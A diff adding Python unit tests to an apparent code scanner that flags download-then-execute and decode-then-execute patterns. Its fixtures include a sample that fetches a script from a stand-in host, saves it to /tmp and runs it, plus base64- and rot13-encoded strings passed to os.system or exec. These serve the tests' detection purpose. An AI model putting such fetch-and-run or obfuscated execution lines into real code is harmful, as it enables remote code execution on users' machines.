@@ -90,3 +90,14 @@ def test_download_written_then_run_is_download_exec():
     code = ("import os, requests\nr = requests.get('https://c.example.net/p.sh')\nopen('/tmp/p.sh', 'wb').write(r.content)\n"
             "os.system('sh /tmp/p.sh')\n")
     assert "skillscope/obfuscation/download-exec" in rules({PY: code})
+
+
+def test_a_decoded_command_handed_to_the_shell_is_decode_exec():
+    code = "import base64, os\nos.system(base64.b64decode('ZWNobyBoaQ==').decode())\n"
+    assert severity({PY: code}, "skillscope/obfuscation/decode-exec") == ["error"]
+
+
+def test_running_text_decoded_from_utf8_is_not_obfuscation():
+    code = "import os, sys\nline = sys.stdin.buffer.readline()\nos.system(line.decode('utf-8'))\n"
+    assert "skillscope/obfuscation/decode-exec" not in rules({PY: code})
+    assert "skillscope/obfuscation/decode-exec" in rules({PY: "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n"})
